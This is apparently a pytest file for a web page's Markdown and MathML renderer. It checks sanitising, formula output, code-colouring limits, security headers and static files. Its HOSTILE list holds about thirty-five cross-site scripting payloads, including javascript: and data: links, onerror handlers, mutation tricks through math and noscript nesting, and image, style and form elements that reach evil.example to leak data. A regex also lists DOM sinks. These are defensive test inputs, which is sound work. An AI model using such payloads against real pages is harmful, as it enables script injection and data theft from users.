"""The page's files and its Markdown: nothing a model writes becomes code, nothing comes from another host."""

import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from pygments.lexers import get_lexer_by_name

from headrace.server.page import formulas, markdown, routes
from tests.server.harness import PATIENCE, Running

# What a hostile model might write; each would run, load or submit something on a page that let it.
HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'><script>window.hacked = 1</script></svg>",
    "<iframe src='javascript:parent.hacked = 1'></iframe>",
    "<a href='javascript:window.hacked = 1'>here</a>",
    "[here](javascript:window.hacked=1)",
    "[here](JaVaScRiPt:window.hacked=1)",
    "[here](&#106;avascript:window.hacked=1)",
    "[here](data:text/html,<script>opener.hacked=1</script>)",
    "<javascript:window.hacked=1>",
    "![x](http://evil.example/leak?prompt=secret)",
    "![x](javascript:window.hacked=1)",
    "[![x](http://evil.example/leak)](http://evil.example)",
    '[x](http://a.example "title\\" onmouseover=\\"window.hacked=1")',
    "```html\n<script>window.hacked = 1</script>\n```",
    "```\"><img/src=x/onerror=window.hacked=1>\nx\n```",
    "```python\n# </code></pre><script>window.hacked = 1</script>\n```",
    "`<img src=x onerror=window.hacked=1>`",
    "| <b onclick=window.hacked=1> |\n|-|\n| <style>*{display:none}</style> |",
    "<style>@import 'http://evil.example/x.css'; * { display: none }</style>",
    "<form action='http://evil.example'><input name=key><button>go</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=window.hacked=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<div id=prompt style='position:fixed;inset:0'>cover</div>",
    "&lt;script&gt;window.hacked = 1&lt;/script&gt;",
    "$\\text{<img src=x onerror=window.hacked=1>}$",
    "\\\\[\\href{javascript:window.hacked=1}{x}\\\\]",
    "$$\\class{x\" onclick=\"window.hacked=1}{x}$$",
    "$\\color{red\" onclick=\"window.hacked=1}{x}$",
    "$\\style{position:fixed;inset:0}{x} \\hspace{-900em} \\rule{900em}{900em}$",
    "$</math><script>window.hacked = 1</script>$",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=window.hacked=1></annotation-xml></math>",
    "<math><mtext><img src=x onerror=window.hacked=1></mtext><mi xlink:href='javascript:window.hacked=1'>x</mi></math>",
]  # fmt: skip


class Harm(HTMLParser):
    """Collects what could run, load, submit, or cover the page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in markdown.TAGS | formulas.TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name in formulas.LENGTHS and tag in formulas.TAGS and not re.search("[1-9][0-9]+e", value or ""):
                continue
            if name not in ("href", "title", "class", "rel", "start", *(formulas.WORDS if tag in formulas.TAGS else ())):
                self.found.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?:|mailto:)", value or "", re.IGNORECASE):
                self.found.append(f"{tag} {name}={value}")


def harm(html: str) -> list[str]:
    parser = Harm()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_harmless_html(text: str) -> None:
    assert harm(markdown.render(text)) == []
    assert harm(markdown.clean(text)) == []  # the second lock alone


def test_without_the_locks_it_would_be_harmful() -> None:
    open_parser = markdown.MarkdownIt("commonmark", {"html": True})
    open_parser.validateLink = lambda url: True  # type: ignore[method-assign]
    assert sum(bool(harm(open_parser.render(text))) for text in HOSTILE) > 15


def test_markdown_is_rendered() -> None:
    html = markdown.render(
        "# Mill\n\nA *wheel*, **water**, `race`, ~~dry~~ and [a link](https://a.example).\n\n1. one\n\n|a|\n|-|\n|b|"
    )
    for part in (
        "<h1>Mill</h1>",
        "<em>wheel</em>",
        "<strong>water</strong>",
        "<code>race</code>",
        "<s>dry</s>",
        "<ol>",
        "<td>b</td>",
    ):
        assert part in html
    assert '<a href="https://a.example" rel="noopener noreferrer nofollow">a link</a>' in html


FORMULAS = {
    "$x^2$": '<p><math display="inline"><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math></p>\n',
    "\\(a<b\\)": '<p><math display="inline"><mrow><mi>a</mi><mo>&lt;</mo><mi>b</mi></mrow></math></p>\n',
    "\\[\na\n+ b\n\\]": '<p><math display="block"><mrow><mi>a</mi><mo>+</mo><mi>b</mi></mrow></math></p>\n',
    "$$\\pi$$": '<p><math display="block"><mrow><mi>π</mi></mrow></math></p>\n',
    "$$\n\\pi\n$$\nand": '<p><math display="block"><mrow><mi>π</mi></mrow></math></p>\n<p>and</p>\n',
    "from $5 to $10, or US$3": "<p>from $5 to $10, or US$3</p>\n",
    "a\\$b$ and $ c$": "<p>a$b$ and $ c$</p>\n",
    "`$x$`": "<p><code>$x$</code></p>\n",
    "$unfinished": "<p>$unfinished</p>\n",
    "\\[unfinished": "<p>[unfinished</p>\n",
}


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_mathml_and_prices_do_not(text: str) -> None:
    assert markdown.render(text) == FORMULAS[text]


def test_environments_are_tables() -> None:
    for name in ("aligned", "align*", "pmatrix", "cases", "gathered"):
        assert "<mtable" in markdown.render(f"$$\\begin{{{name}}}a&b\\\\c&d\\end{{{name}}}$$"), name


@pytest.mark.parametrize(
    "tex", ["{" * 200 + "x" + "}" * 200, "x^" * 300 + "x", "\\frac{1", "\\left(", "a" * (formulas.LONGEST + 1), "\\begin{x}"]
)
def test_invalid_formulas_become_harmless_html(tex: str) -> None:
    for display in (False, True):
        assert harm(markdown.clean(formulas.mathml(tex, display))) == []


def test_many_beginnings_of_formulas_are_read_in_time_that_grows_with_the_text() -> None:
    """Each would look for its end through all that follows; so many would take minutes."""
    for text in ("$x " * 30_000, "\\[" * 45_000, "\\(" * 45_000, "$" * 90_000):
        assert "<math" not in markdown.render(text)


def test_code_is_coloured_only_in_a_known_language() -> None:
    assert '<code class="language-python"><span class="k">def</span>' in markdown.render("```python\ndef f(): pass\n```")
    assert markdown.render("```no-such\n<b>\n```") == '<pre><code class="language-no-such">&lt;b&gt;\n</code></pre>\n'
    assert "<span" not in markdown.render(f"```python\n{'x = 1; ' * markdown.MAX_CODE}\n```")
    assert ".k { color: light-dark(#" in markdown.code_css()


def test_only_known_languages_are_coloured() -> None:
    """A lexer that this one text keeps for minutes is not asked; nor is any other of the library's hundreds."""
    text = 'f"```scala\\n\\"{chr(92) * 48}\\n```"'
    code = f"from headrace.server.page.markdown import render; print(render({text}))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=PATIENCE, check=True)
    assert done.stdout.startswith('<pre><code class="language-scala">')
    assert "<span" not in done.stdout
    assert get_lexer_by_name("scala") is not None  # there is one
    for name in markdown.LANGUAGES:
        assert get_lexer_by_name(name).name == get_lexer_by_name(markdown.LANGUAGES[name]).name


def test_coloured_code_is_bounded_per_text() -> None:
    block = "```python\nx = 1\n" + "y = 2\n" * 1000 + "```\n\n"
    assert markdown.render(block * 3).count('<span class="n">x</span>') == 1
    assert markdown.render(block).count('<span class="n">x</span>') == 1  # and the next text has its own


def test_long_texts_are_escaped_and_not_parsed() -> None:
    assert markdown.render("*<b>*" * markdown.MAX_TEXT).startswith("<p>*&lt;b&gt;**&lt;b&gt;*")


def test_every_file_is_served_without_a_key_and_with_the_policy(tiny: object) -> None:
    with Running("no-model", begin=False, key="a-long-enough-key") as locked:
        for path, name in routes.PATHS.items():
            answer = locked.http.get(path, headers={"Authorization": ""})
            assert answer.status_code == 200, path
            assert answer.headers["content-type"] == routes.KINDS[name.rpartition(".")[2]]
            policy = answer.headers["content-security-policy"]
            assert "default-src 'none'; script-src 'self'; style-src 'self'" in policy
            assert "unsafe" not in policy
            again = locked.http.get(path, headers={"Authorization": "", "If-None-Match": answer.headers["etag"]})
            assert again.status_code == 304
            assert again.content == b""
        assert locked.http.get("/page/../app.py", headers={"Authorization": ""}).status_code == 401
        assert locked.http.get("/page/routes.py").status_code == 404
        assert locked.http.post("/page/render", json={"text": "*a*"}, headers={"Authorization": ""}).status_code == 401
        assert locked.http.post("/page/render", json={"text": "*a*"}).json() == {"html": "<p><em>a</em></p>\n"}
        assert locked.http.post("/page/render", json={"text": "a" * (markdown.MAX_TEXT + 1)}).status_code == 400


def test_the_page_has_no_inline_code_and_no_foreign_urls() -> None:
    texts = {path: file.data.decode() for path, file in routes.load().items() if file.kind != "font/woff2"}
    assert set(routes.STATIC) == {path.name for path in (routes.files(routes.__package__) / "static").iterdir()}
    page = texts["/"]
    assert re.findall(r"<script(?![^>]* src=\"/page/)", page) == []
    assert re.findall(r"<style|\son\w+=|\sstyle=", page) == []
    for path, text in texts.items():
        if path == "/page/inter.txt":  # the licence of the font
            continue
        away = [url for url in re.findall(r"(?:https?:)?//[\w.-]+\.\w+", text) if "www.w3.org" not in url]
        assert away == [], path
    # One place alone makes elements of HTML.
    sinks = [
        path
        for path, text in texts.items()
        if re.search(r"innerHTML|outerHTML\s*=|insertAdjacentHTML|document\.write|eval\(", text)
    ]
    assert sinks == ["/page/dom.js"]


def test_both_languages_have_the_same_texts() -> None:
    text = routes.load()["/page/texts.js"].data.decode()
    english, chinese = (re.search(rf"const {name} = {{(.*?)\n}};", text, re.DOTALL) for name in ("EN", "ZH"))
    assert english is not None
    assert chinese is not None
    names = [re.findall(r"(?:^|[,\s])(\w+): (?=[\"\[])", found[1]) for found in (english, chinese)]
    assert names[0] == names[1]
    assert len(names[0]) > 80
